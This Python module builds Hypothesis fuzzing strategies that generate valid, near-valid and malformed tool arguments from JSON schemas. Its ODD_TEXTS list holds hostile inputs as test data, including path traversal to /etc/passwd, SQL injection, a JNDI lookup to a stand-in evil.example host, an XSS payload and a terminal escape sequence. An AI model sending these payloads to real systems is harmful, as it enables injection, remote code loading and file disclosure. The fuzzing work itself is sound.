"""Arguments for a tool made from its own input schema: what it takes, nearly that, and nothing like it."""

import string
from collections.abc import Mapping, Sequence
from typing import Any

from hypothesis import strategies as st

Known = Mapping[str, Sequence[Any]]
"""Names and ids that exist, by the `x-entity` of the parameter that takes them."""

# Where programs go wrong with text: each is data, whatever it looks like.
ODD_TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "tail \udfff",
    "\u202egnirts",
    "\u200b\u200d\ufeff",
    "\x1b[2J\x1b]8;;https://evil.example\x1b\\x",
    "é" * 300,
    "x" * 5_000,
    "../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\windows",
    "~",
    "'; DROP TABLE items; --",
    "%s %n {0} {{7*7}} ${jndi:ldap://evil.example/a}",
    "<img src=x onerror=alert(1)>",
    "*",
    "-1",
    "1e999",
    "null",
    "true",
    "[]",
    "{}",
    '{"a":',
    "[" * 2_000,
    "2026-02-30T25:61:00Z",
    "9" * 40,
)
ODD_NUMBERS = (0, -1, 1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 10**40, 0.5, -0.0, 1e308)
_TEXTS = st.sampled_from(ODD_TEXTS) | st.text(max_size=20)
_NUMBERS = st.sampled_from(ODD_NUMBERS)
_PLAIN = st.none() | st.booleans() | _NUMBERS | _TEXTS
_NAMES = st.text(string.ascii_lowercase + "_-.$ {", max_size=12) | _TEXTS
ANYTHING = st.recursive(
    _PLAIN, lambda kind: st.lists(kind, max_size=4) | st.dictionaries(_NAMES, kind, max_size=3)
) | st.sampled_from([[[[[[[[[]]]]]]]], [1] * 2_000, {"a": {"b": {"c": {"d": []}}}}])


def deep(levels: int) -> Any:
    """A list in a list in a list."""
    value: Any = []
    for _ in range(levels):
        value = [value]
    return value


def value_of(schema: Mapping[str, Any], known: Known) -> st.SearchStrategy[Any]:
    """Values that a schema takes, and now and then a name that does not exist."""
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    there = known.get(schema.get("x-entity", ""))
    if there and schema.get("type") != "array":
        return st.sampled_from(list(there)) | _by_type(schema, known)
    if there:
        return st.lists(st.sampled_from(list(there)), min_size=1, max_size=5)
    return _by_type(schema, known)


def _by_type(schema: Mapping[str, Any], known: Known) -> st.SearchStrategy[Any]:
    kind = schema.get("type")
    if kind == "integer":
        low, high = schema.get("minimum", -5), schema.get("maximum", 10_000)
        return st.integers(low, min(high, low + 50)) | st.integers(low, max(low, high))
    if kind == "number":
        low = schema.get("minimum", schema.get("exclusiveMinimum", 0.0))
        high = schema.get("maximum", schema.get("exclusiveMaximum", 1.0))
        return st.floats(low, high, allow_nan=False)
    if kind == "boolean":
        return st.booleans()
    if kind == "array":
        return st.lists(value_of(schema.get("items", {}), known), max_size=5)
    if kind == "object":
        return st.dictionaries(_NAMES, value_of(_inner(schema), known), max_size=3)
    if kind == "string":
        if "pattern" in schema:
            return st.from_regex(schema["pattern"], fullmatch=True)
        if schema.get("format") == "date-time":
            return st.datetimes().map(lambda moment: moment.isoformat() + "Z")
        return st.text(max_size=schema.get("maxLength", 30) % 60) | _TEXTS
    return ANYTHING


def _inner(schema: Mapping[str, Any]) -> Mapping[str, Any]:
    inner = schema.get("additionalProperties")
    return inner if isinstance(inner, dict) else {}


@st.composite
def arguments_of(draw: st.DrawFn, schema: Mapping[str, Any], known: Known) -> dict[str, Any]:
    """Arguments of one call: half of them as the schema says, the others with one to three faults."""
    required = set(schema.get("required", ()))
    said = {
        name: draw(value_of(part, known))
        for name, part in schema["properties"].items()
        if name in required or draw(st.booleans())
    }
    for _ in range(draw(st.sampled_from([0, 0, 0, 1, 2, 3]))):
        _spoil(draw, said, list(schema["properties"]))
    return said


def _spoil(draw: st.DrawFn, said: dict[str, Any], names: list[str]) -> None:
    fault = draw(
        st.sampled_from(["other", "other", "missing", "extra", "deep", "as text", "twice"])
    )
    name = draw(st.sampled_from(names)) if names else draw(_NAMES)
    if fault == "missing":
        said.pop(name, None)
    elif fault == "extra":
        said[draw(_NAMES)] = draw(ANYTHING)
    elif fault == "deep":
        said[name] = deep(draw(st.sampled_from([5, 50, 150])))
    elif fault == "as text":
        said[name] = str(said.get(name, 1))
    elif fault == "twice" and isinstance(said.get(name), list):
        said[name] = said[name] * 3
    else:
        said[name] = draw(ANYTHING)
